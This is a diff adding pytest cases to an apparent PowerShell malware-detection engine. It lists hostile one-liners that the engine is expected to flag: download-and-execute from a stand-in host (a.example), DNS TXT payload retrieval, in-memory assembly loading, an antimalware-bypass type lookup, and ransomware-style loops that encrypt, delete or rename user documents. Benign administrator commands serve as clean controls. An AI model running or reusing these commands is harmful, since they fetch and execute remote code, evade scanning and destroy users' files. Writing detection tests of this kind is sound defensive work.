@@ -89,3 +89,41 @@ def test_layers_are_followed_to_a_depth(powershell: ScriptEnvironment) -> None:
 def test_what_is_written_comes_back(powershell: ScriptEnvironment) -> None:
     result = _run(powershell, "Set-Content -Path $env:TEMP\\a.vbs -Value 'MsgBox 1'")
     assert [child.data for child in result.children] == [b"MsgBox 1"]
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "$w = New-Object Net.WebClient; iex (($w.DownloadString).Invoke('http://a.example/'))",
+        "$b = (Resolve-DnsName a.example -Type TXT).Strings; powershell -c $b",
+        "[AppDomain]::CurrentDomain.Load([byte[]](77,90,0)).EntryPoint.Invoke($null, $null)",
+        "foreach ($t in [Ref].Assembly.GetTypes()) { if ($t.Name -like '*iUtils') { $t } }",
+        "[Microsoft.VisualBasic.Interaction]::CallByName((New-Object Net.WebClient), 'Download' + "
+        "'String', 'Method', 'http://a.example/') | iex",
+        "Get-ChildItem $HOME -Recurse -Include *.docx, *.xlsx, *.pdf, *.jpg | ForEach-Object { "
+        "[IO.File]::WriteAllBytes($_.FullName + '.locked', $e); Remove-Item $_.FullName }",
+        "Get-ChildItem $HOME\\Documents -Recurse | Rename-Item -NewName { $_.Name + '.locked' }",
+    ],
+)
+def test_ways_around_a_name_are_followed(powershell: ScriptEnvironment, code: str) -> None:
+    assert verdict_of(_run(powershell, code)) is Verdict.MALICIOUS
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "iex ((New-Object Net.WebClient).DownloadString('https://community.chocolatey.org/"
+        "install.ps1'))",
+        "[Microsoft.UpdateServices.Administration.AdminProxy]::GetUpdateServer('wsus', $false, 8530)",
+        '1..20 | % { [Net.Dns]::GetHostEntry("192.0.2.$_") }',
+        "Get-ChildItem $HOME\\Documents -Filter *.docx | Copy-Item -Destination D:\\Backup",
+    ],
+)
+def test_work_of_administrators_is_clean(powershell: ScriptEnvironment, code: str) -> None:
+    result = _run(powershell, code)
+    assert (verdict_of(result), result.stopped_by) == (Verdict.CLEAN, None)
+
+
+def test_only_the_installers_own_address_is_known(powershell: ScriptEnvironment) -> None:
+    code = "iex (irm 'http://community.chocolatey.org/install.ps1')"
+    assert verdict_of(_run(powershell, code)) is Verdict.MALICIOUS
